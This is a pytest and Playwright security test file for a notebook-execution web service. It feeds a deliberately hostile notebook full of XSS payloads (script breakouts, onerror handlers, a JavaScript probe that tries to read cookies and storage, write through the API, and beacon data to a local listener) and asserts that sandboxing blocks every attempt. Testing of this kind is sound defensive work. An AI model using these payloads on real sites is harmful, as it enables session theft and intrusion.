"""What a notebook that means harm can do to whoever looks at its runs: nothing, in any page that shows what it made.

A second server listens for anything that gets out. Scripts of reports do run, in an origin of their own: each test that
looks at one waits for its script to say what it tried, so that nothing passes because nothing was tried.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest

from tests.conftest import notebook_content
from tests.server_fixtures import TOKEN, ServerProcess

if TYPE_CHECKING:
    from playwright.sync_api import Frame, Page

    from tests.browser_fixtures import OpenPage

pytestmark = [pytest.mark.browser, pytest.mark.kernel]

MARK = """'"><img src=x onerror="window.owned=1"></script><script>window.owned=2</script>"""

SCRIPT = """
(async () => {
  const out = "%(beacon)s/?", api = "/nbflow/api/", told = {}
  const attempt = async (name, action) => {
    try { told[name] = String(await action()) } catch (error) { told[name] = `refused: ${error.name}` }
  }
  const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(new Error("late")), 3000))])
  await attempt("cookie", () => document.cookie)
  await attempt("storage", () => localStorage.length)
  await attempt("session", () => sessionStorage.length)
  await attempt("database", () => { indexedDB.open("x"); return "opened" })
  await attempt("parent", () => { if (parent === window) throw new Error("none"); return parent.document.title })
  await attempt("opener", () => window.opener ? window.opener.document.title : (() => { throw new Error("none") })())
  await attempt("origin", () => self.origin)
  const put = { method: "PUT", credentials: "include", headers: { "Content-Type": "text/plain" }, body: "1" }
  await attempt("fetch", () => soon(fetch(api + "runs", { credentials: "include" })).then((a) => a.status))
  await attempt("blind", () => soon(fetch(api + "runs", { method: "POST", mode: "no-cors", credentials: "include", body: "{}" })).then((a) => a.type))
  await attempt("write", () => soon(fetch(api + "kv/stolen", put)).then((a) => a.status))
  await attempt("out", () => soon(fetch(out + "fetch", { mode: "no-cors" })).then((a) => a.type))
  await attempt("beacon", () => { if (!navigator.sendBeacon(out + "beacon", "x")) throw new Error("no"); return "sent" })
  await attempt("xhr", () => soon(new Promise((yes, no) => {
    const asked = new XMLHttpRequest()
    asked.open("GET", api + "runs"); asked.withCredentials = true
    asked.onload = () => yes(asked.status); asked.onerror = () => no(new Error("error")); asked.send()
  })))
  await attempt("events", () => soon(new Promise((yes, no) => {
    const source = new EventSource(api + "runs/abcd/events", { withCredentials: true })
    source.onopen = () => yes("open"); source.onerror = () => { source.close(); no(new Error("error")) }
  })))
  await attempt("socket", () => soon(new Promise((yes, no) => {
    const socket = new WebSocket(out.replace("http", "ws")); socket.onopen = () => yes("open"); socket.onerror = () => no(new Error("e"))
  })))
  for (const address of [out + "image", api + "kv/image"])
    await attempt("image", () => soon(new Promise((yes, no) => { const i = new Image(); i.onload = () => yes("seen"); i.onerror = () => no(new Error("e")); i.src = address })))
  await attempt("script", () => soon(new Promise((yes, no) => {
    const node = document.createElement("script"); node.src = out + "script"; node.onload = () => yes("run"); node.onerror = () => no(new Error("e")); document.body.append(node)
  })))
  await attempt("import", () => soon(import(out + "module")).then(() => "run"))
  await attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + out + "worker')"]))); return "begun" })
  await attempt("service", () => soon(navigator.serviceWorker.register("/sw.js")).then(() => "registered"))
  const submit = (action, target) => {
    const form = document.createElement("form")
    Object.assign(form, { action, method: "post", enctype: "text/plain", target })
    form.innerHTML = "<input name='{&quot;x' value='&quot;:1}'>"
    document.body.append(form); form.submit(); return "sent"
  }
  await attempt("form", () => submit(api + "runs", "_self"))
  await attempt("form_top", () => submit(api + "runs", "_top"))
  await attempt("form_out", () => submit(out + "form", "_blank"))
  const press = (href, target, download) => {
    const link = Object.assign(document.createElement("a"), { href, target }); if (download) link.download = "x"
    document.body.append(link); link.click(); return "pressed"
  }
  await attempt("popup", () => { const other = window.open(out + "popup"); if (!other) throw new Error("none"); return "opened" })
  await attempt("link_blank", () => press(out + "blank", "_blank"))
  await attempt("download", () => press("data:application/octet-stream,x", "", true))
  await attempt("frame", () => { const f = document.createElement("iframe"); f.src = api + "runs"; document.body.append(f); return "made" })
  await attempt("data_frame", () => { const f = document.createElement("iframe"); f.src = "data:text/html,<script>fetch('" + out + "data')<\\/script>"; document.body.append(f); return "made" })
  await attempt("css", () => { const s = document.createElement("style"); s.textContent = "@import url('" + out + "css'); body{background:url('" + out + "background')}"; document.head.append(s); return "made" })
  await attempt("alert", () => { alert("hello"); return "shown" })
  await attempt("message", () => { parent.postMessage({ kind: "navigate", href: out + "message" }, "*"); return "sent" })
  if (top !== window) {
    await attempt("top", () => { top.location.href = out + "top"; return "gone" })
    await attempt("top_replace", () => { top.location.replace("/logout"); return "gone" })
    await attempt("link_top", () => press(out + "link_top", "_top"))
    await attempt("link_parent", () => press(out + "link_parent", "_parent"))
  }
  await new Promise((later) => setTimeout(later, 300))
  const told_here = document.createElement("script")
  Object.assign(told_here, { type: "application/json", id: "told", textContent: JSON.stringify(told) })
  document.body.append(told_here)
})()
"""

ELEMENTS = """
<img src="%(beacon)s/?img"><img src="/nbflow/api/kv/stolen"><img src=x onerror="document.title='owned'">
<svg onload="document.title='owned'"><image href="%(beacon)s/?svg"/><use href="%(beacon)s/?use#x"/></svg>
<iframe src="/nbflow/api/runs"></iframe><iframe src="%(beacon)s/?iframe"></iframe>
<iframe srcdoc="<script>fetch('%(beacon)s/?srcdoc')</script>"></iframe>
<object data="%(beacon)s/?object"></object><embed src="%(beacon)s/?embed"><link rel="stylesheet" href="%(beacon)s/?link">
<link rel="prefetch" href="%(beacon)s/?prefetch"><link rel="dns-prefetch" href="%(beacon)s/"><base href="%(beacon)s/" target="_top">
<video src="%(beacon)s/?video" poster="%(beacon)s/?poster" autoplay></video><audio src="%(beacon)s/?audio" autoplay></audio>
<form action="/nbflow/api/runs" method="post" target="_top"><button id="press">Press</button></form>
<a id="js" href="javascript:top.location='%(beacon)s/?js'" target="_top">js</a><a id="out" href="%(beacon)s/?out" target="_top">out</a>
<script src="%(beacon)s/?script"></script></script></style></textarea></title>"""

MOVES = {
    "refresh": """<meta http-equiv="refresh" content="0;url=%(beacon)s/?refresh">""",
    "location": """<script>location.href = "%(beacon)s/?location"</script>""",
    "logout": """<script>location.replace("/logout")</script>""",
    "write": """<script>location.replace("/nbflow/api/kv/stolen?method=PUT")</script>""",
}


@dataclass
class Beacon:
    """Everything that got out."""

    url: str = ""
    heard: list[str] = field(default_factory=list)
    page: str = ""


@contextmanager
def listening() -> Iterator[Beacon]:
    beacon = Beacon()

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            is_page = self.path == "/page"
            if not is_page and self.path != "/favicon.ico":
                beacon.heard.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Set-Cookie", "known=yes")
            self.end_headers()
            self.wfile.write(beacon.page.encode() if is_page else b"")

        do_POST = do_PUT = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    beacon.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield beacon
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@pytest.fixture(scope="module")
def beacon() -> Iterator[Beacon]:
    with listening() as beacon:
        yield beacon


@pytest.fixture(autouse=True)
def nothing_got_out(beacon: Beacon, served: ServerProcess) -> Iterator[None]:
    """After each test here: nothing was heard outside, and nothing was written inside."""
    beacon.heard.clear()
    yield
    assert beacon.heard == []
    assert served.get("kv/stolen").status == 404
    assert served.get("kv/image").status == 404


def show(html: str) -> str:
    return f"from IPython.display import HTML, SVG, Markdown, Javascript, display\ndisplay(HTML({html!r}))"


def make_run(server: ServerProcess, file: str, cells: list[Any], declared: str | None = None, **request: Any) -> Any:
    metadata = {"title": MARK, "authors": [{"name": MARK}]}
    content = notebook_content(cells, parameters=declared, metadata=metadata)
    (server.folder / f"{file}.ipynb").write_text(json.dumps(content))
    made = server.wait_for_worker().post("runs", {"path": f"{file}.ipynb", **request})
    assert made.status == 201, made.text
    return server.wait_for_end(made.json["id"])


@pytest.fixture(scope="module")
def hostile(served: ServerProcess, beacon: Beacon) -> Any:
    """A run of a notebook that tries everything, wherever something of a run is shown."""
    words = {"beacon": beacon.url}
    script, elements = SCRIPT % words, ELEMENTS % words
    parameters = f"from typing import Literal\nwho: str = 'x'  # {MARK}\nkind: Literal[{MARK!r}, 'b'] = 'b'\n"
    cells = [
        {"cell_type": "markdown", "source": f"# {MARK}\n\n[press](javascript:alert(1))\n\n{elements}"},
        f"# {MARK}\nprint({MARK!r})\nprint('\\x1b[31m<b>red</b>\\x1b[0m\\x1b]8;;javascript:alert(1)\\x07link\\x1b]8;;\\x07', '\\x1b[')",
        "import sys, nbflow\n"
        f"nbflow.record({MARK!r}, {MARK!r}); nbflow.record('image', {{'$image': 'x\" onerror=\"window.owned=3'}})\n"
        f"nbflow.record('table', {{'$table': {{'schema': {{'fields': [{{'name': {MARK!r}}}]}}, 'data': [{{{MARK!r}: {MARK!r}}}]}}}})\n"
        f"print({MARK!r}, file=sys.stderr)",
        show(elements),
        "from IPython.display import SVG, Markdown, Javascript, display\n"
        f'display(SVG(\'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("{beacon.url}/?svg")</script></svg>\'))\n'
        f"display(Markdown({elements!r}))",
        f"display(Javascript({script!r}))",
        show(f"<script>{script}</script>"),
        f"raise ValueError({MARK!r})",
    ]
    request = {"name": MARK, "tags": [MARK, "<b>"], "parameters": {"who": MARK, "kind": MARK}}
    run = make_run(served, "hostile", cells, parameters, **request)
    assert run["state"] == "failed"
    assert run["failure"]["evalue"] == MARK
    return run


@dataclass
class Watched:
    """A page, and what happened to it that should not."""

    page: Page
    windows: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)
    downloads: list[str] = field(default_factory=list)
    answers: list[str] = field(default_factory=list)
    """What came back from the API to anything but our own page."""

    def check(self, url: str) -> None:
        assert self.page.url == url
        assert (self.windows, self.dialogs, self.downloads) == ([], [], [])
        assert self.page.context.service_workers == []
        assert [one for one in self.answers if not one.endswith("/report")] == []
        assert self.page.evaluate("window.owned") is None

    def log_out_failed(self, server: ServerProcess) -> None:
        answer = self.page.context.request.get(f"{server.api}/runs")
        assert answer.status == 200, "the session was ended"


@pytest.fixture
def watched(open_page: OpenPage, served: ServerProcess) -> Watched:
    page = open_page(allowed_errors=("",))  # what the notebook's own scripts raise is theirs
    page.goto(f"{served.url}/nbflow/kv?token={TOKEN}")
    page.evaluate("localStorage.setItem('nbflow', 'ours')")
    seen = Watched(page)
    page.context.on("page", lambda other: seen.windows.append(other.url))

    def refuse(dialog: Any) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", refuse)
    page.on("download", lambda download: seen.downloads.append(download.url))

    def note(answer: Any) -> None:
        if answer.frame != page.main_frame:
            seen.answers.append(f"{answer.request.method} {answer.url}")

    page.on("response", note)
    return seen


def read_told(frame: Frame | Page) -> dict[str, str]:
    frame.wait_for_selector("#told", state="attached")
    told: dict[str, str] = json.loads(frame.locator("#told").first.text_content() or "")
    return told


def find_report(page: Page) -> Frame:
    page.wait_for_selector("iframe")
    handle = page.query_selector("iframe")
    assert handle is not None
    frame = handle.content_frame()
    assert frame is not None
    frame.wait_for_load_state()
    return frame


REFUSED = {
    *(
        "cookie",
        "storage",
        "session",
        "database",
        "parent",
        "opener",
        "fetch",
        "blind",
        "write",
        "out",
        "xhr",
        "events",
    ),
    *("socket", "image", "script", "import", "service", "popup"),
}


def assert_refused(told: dict[str, str]) -> None:
    assert set(told) >= REFUSED
    assert {name: what for name, what in told.items() if name in REFUSED and not what.startswith("refused")} == {}
    assert told["origin"] == "null"


def press_everything(frame: Frame | Page) -> None:
    frame.evaluate("for (const node of document.querySelectorAll('#press, #js, #out')) node.click()")


def test_a_report_in_the_page_of_a_run_reaches_nothing(watched: Watched, served: ServerProcess, hostile: Any) -> None:
    url = f"{served.url}/nbflow/runs/{hostile['id']}#notebook"
    watched.page.goto(url)
    frame = find_report(watched.page)
    assert_refused(read_told(frame))
    press_everything(frame)
    watched.page.get_by_role("tab", name="Log").click()
    assert MARK in (watched.page.locator("#log").text_content() or "")
    watched.check(url.replace("#notebook", "#log"))
    watched.log_out_failed(served)


def test_a_report_in_a_tab_of_its_own_reaches_nothing(watched: Watched, served: ServerProcess, hostile: Any) -> None:
    watched.page.goto(f"{served.api}/runs/{hostile['id']}/report")
    url = f"{served.url}/nbflow/runs/{hostile['id']}/report"
    frame = find_report(watched.page)
    assert_refused(read_told(frame))
    press_everything(frame)
    watched.check(url)
    watched.log_out_failed(served)


def test_a_report_is_as_closed_where_the_browser_does_not_say_what_it_wants(
    watched: Watched, served: ServerProcess, hostile: Any
) -> None:
    """Over plain HTTP from elsewhere a browser sends no Sec-Fetch-Dest, and the report is the page of the tab."""
    url = f"{served.api}/runs/{hostile['id']}/report"
    plain = served.get(f"runs/{hostile['id']}/report")
    headers = {name: plain.headers[name] for name in ("Content-Type", "Content-Security-Policy")}
    watched.page.route(url, lambda route: route.fulfill(status=200, headers=headers, body=plain.body))
    watched.page.goto(url)
    assert_refused(read_told(watched.page))
    assert watched.page.url == url
    assert (watched.windows, watched.dialogs, watched.downloads) == ([], [], [])
    watched.log_out_failed(served)


def test_an_executed_notebook_is_a_download(watched: Watched, served: ServerProcess, hostile: Any) -> None:
    with watched.page.expect_download() as download:
        watched.page.evaluate("(url) => { location.href = url }", f"{served.api}/runs/{hostile['id']}/notebook")
    assert download.value.suggested_filename.endswith(".ipynb")
    answer = served.get(f"runs/{hostile['id']}/notebook")
    assert "\n" not in answer.headers["Content-Disposition"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("move", MOVES)
def test_a_report_leads_the_page_nowhere(watched: Watched, served: ServerProcess, beacon: Beacon, move: str) -> None:
    run = make_run(served, f"move-{move}", [show(MOVES[move] % {"beacon": beacon.url})])
    for url in (f"{served.url}/nbflow/runs/{run['id']}#notebook", f"{served.url}/nbflow/runs/{run['id']}/report"):
        watched.page.goto(url)
        watched.page.wait_for_selector("iframe")
        watched.page.wait_for_timeout(700)  # nothing tells of what does not happen
        assert watched.page.url == url
        watched.log_out_failed(served)
        assert watched.page.evaluate("document.cookie").startswith("_xsrf=")
        assert watched.windows == []


PAGES: tuple[str, ...] = (
    *("runs", "runs/{run}#log", "runs/{run}#results", "runs/{run}#timeline", "runs/{run}#tree", "runs?tag={mark}"),
    *("flows", "flows/hostile/one", "flows/hostile/one#runs", "flows/hostile/one#schedules", "app/hostile/one"),
    *("notebook?path=hostile.ipynb", "notebook?from={run}", "schedules", "kv", "kv?prefix={mark}", "backfills"),
    *("backfills/{backfill}", "runs?flow={mark}", "flows/hostile/one?p.who={mark}&p.none={mark}"),
    *("flows/{mark}/x", "runs/{mark}"),
)


def test_no_page_takes_words_for_markup(watched: Watched, served: ServerProcess, hostile: Any) -> None:
    assert served.post("flows", {"project": "hostile", "name": "one", "path": "hostile.ipynb"}).status in (200, 201)
    again = served.post("flows/hostile/one/runs", {"name": MARK, "tags": [MARK], "parameters": {"who": MARK}})
    served.wait_for_end(again.json["id"])
    assert served.ask("PUT", f"kv/{quote(MARK, safe='')}", {MARK: MARK}).status == 200
    schedule = {"flow": "hostile/one", "every": "1h", "name": MARK, "parameters": {"who": MARK}, "paused": True}
    made = served.post("schedules", {**schedule, "tags": [MARK]})
    assert made.status == 201, made.text
    rows = {"flow": "hostile/one", "name": MARK, "axes": {"who": [MARK, "b"]}, "max_active_runs": 1}
    backfill = served.post("backfills", rows)
    assert backfill.status == 201, backfill.text
    served.post(f"backfills/{backfill.json['id']}/cancel")
    complaints: list[str] = []
    watched.page.on("console", lambda line: complaints.append(line.text) if "Content Security" in line.text else None)
    words = {"run": hostile["id"], "backfill": backfill.json["id"], "mark": quote(MARK, safe="")}
    shown = 0
    for path in PAGES:
        watched.page.goto("about:blank")
        watched.page.goto(f"{served.url}/nbflow/{path.format(**words)}")
        watched.page.wait_for_load_state("networkidle" if "runs/{run}" not in path else "load")
        assert watched.page.evaluate("window.owned") is None, path
        assert watched.page.locator("img[src='x']").count() == 0, path
        shown += MARK in (watched.page.locator("body").text_content() or "")
    assert shown >= 8
    assert complaints == []
    served.ask("DELETE", f"schedules/{made.json['id']}")
    served.ask("DELETE", f"kv/{quote(MARK, safe='')}")
    watched.check(watched.page.url)


def test_the_preview_in_a_panel_runs_nothing(
    watched: Watched, served: ServerProcess, hostile: Any, beacon: Beacon
) -> None:
    from nbflow.widgets.preview import show_preview

    content = served.get(f"runs/{hostile['id']}/notebook").json
    content["cells"] = [cell for cell in content["cells"] if "ValueError" not in "".join(cell["source"])][-4:]
    executed = Path(served.folder / "executed-hostile.txt")
    executed.write_text(json.dumps(content))
    beacon.page = f"<!doctype html><title>host</title>{show_preview(executed)}"
    watched.page.goto(f"{beacon.url}/page")
    frame = find_report(watched.page)
    assert "Press" in frame.locator("body").inner_html()
    assert frame.locator("#told").count() == 0
    watched.page.wait_for_timeout(300)
    assert watched.page.title() == "host"
    watched.check(f"{beacon.url}/page")
